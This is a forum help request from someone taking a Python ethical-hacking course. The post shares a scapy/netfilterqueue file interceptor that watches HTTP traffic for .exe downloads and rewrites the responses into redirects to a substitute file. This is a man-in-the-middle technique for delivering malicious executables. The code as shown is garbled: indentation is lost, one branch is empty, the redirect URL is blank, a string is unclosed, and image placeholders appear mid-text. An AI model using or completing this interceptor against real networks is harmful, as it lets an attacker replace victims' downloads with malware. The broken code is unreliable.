Section 8: Writing a File Interceptor - Modifying HTTP Responses on The Fly - Python for ethical hacking by Zaid

In Python for ethical hacking course by Zaid, I was able to sniff the packet and route the URL to a secondary site whenever user tries to download a .exe file. However in the redirect URL a guess a content encoding is sent along with the redirect packet. Please help me to fix the issue. Code as below,

#!/usr/bin/env python3.7
import netfilterqueue
import scapy.all as scapy

ack_list = []

def process_packet(packet):
scapy_packet = scapy.IP(packet.get_payload()) #You are wrapping the payload with IP layer to get more info.
if scapy_packet.haslayer(scapy.Raw):
if scapy_packet[scapy.TCP].dport == 80:
print(“HTTP Request”)
if “.exe” in str(scapy_packet[scapy.Raw].load):
elif scapy_packet[scapy.TCP].sport == 80:
if scapy_packet[scapy.TCP].seq in ack_list:
print(“HTTP Response”)
print("[+] Replacing file")
scapy_packet[scapy.Raw].load = “HTTP/1.1 301 Moved Permanently\nLocation:\n\n
del scapy_packet[scapy.IP].len
del scapy_packet[scapy.IP].chksum
del scapy_packet[scapy.TCP].chksum


queue = netfilterqueue.NetfilterQueue()
queue.bind(0, process_packet)

As you can see, the redirect URL has some extra encoding but if you see in thecode , i have made properdecoding and encoding using str and decode functions.


This issue is fixed. Thanks.